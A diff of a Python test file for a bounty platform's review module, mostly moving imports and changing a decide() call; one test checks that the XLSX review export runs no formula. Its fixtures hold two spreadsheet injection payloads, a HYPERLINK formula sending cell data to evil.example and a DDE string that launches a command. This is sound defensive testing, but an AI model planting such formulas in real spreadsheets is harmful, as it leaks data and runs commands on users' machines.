@@ -12,14 +12,14 @@ from openpyxl import load_workbook
 
 from bounty.challenges.models import ChallengeState
 from bounty.extensions import db
+from bounty.market.services import create_listing
 from bounty.review.assignment import ReviewTask, sync_tasks
-from bounty.review.market import create_listing
-from bounty.review.models import Outcome, Stage
-from bounty.review.services import decide
+from bounty.review.decisions import decide
+from bounty.review.models import Outcome, StageKey
 
 from ..factories import create_bid, create_challenge, create_user
+from ..registry.helpers import completed_challenge, listing_data, pdf_upload
 from .conftest import award_challenge
-from .registry_helpers import completed_challenge, listing_data, pdf_upload
 
 TITLE_ATTACK = '=HYPERLINK("http://evil.example/?x="&B2,"附件")'
 COMMENT_ATTACK = "=cmd|' /C calc'!A0"
@@ -85,9 +85,9 @@ def test_a_losing_bidder_does_not_see_the_winners_registry_events(app, sign_in):
 
 def test_registry_events_have_their_own_translated_labels(app, sign_in):
     challenge, owner, winner = completed_challenge()
-    from bounty.review.certification import apply_for_certification
+    from bounty.certification.services import apply_for_certification
 
-    from .registry_helpers import cert_data, evidence_files
+    from ..registry.helpers import cert_data, evidence_files
 
     apply_for_certification(challenge, owner, cert_data(), evidence_files())
     owner.locale = "en"
@@ -100,7 +100,7 @@ def test_registry_events_have_their_own_translated_labels(app, sign_in):
 def test_the_review_export_runs_no_formula(app, sign_in):
     challenge, _owner, _bids = award_challenge(title=TITLE_ATTACK)
     reviewer = create_user("reviewer")
-    decide(challenge, Stage.award, Outcome.return_, reviewer, COMMENT_ATTACK)
+    decide(challenge, reviewer, Outcome.return_, COMMENT_ATTACK, stage=StageKey.award)
     client = sign_in(create_user("reviewer"))
     xlsx = client.get("/review/export?stage=award&format=xlsx")
     sheet = load_workbook(io.BytesIO(xlsx.data)).active
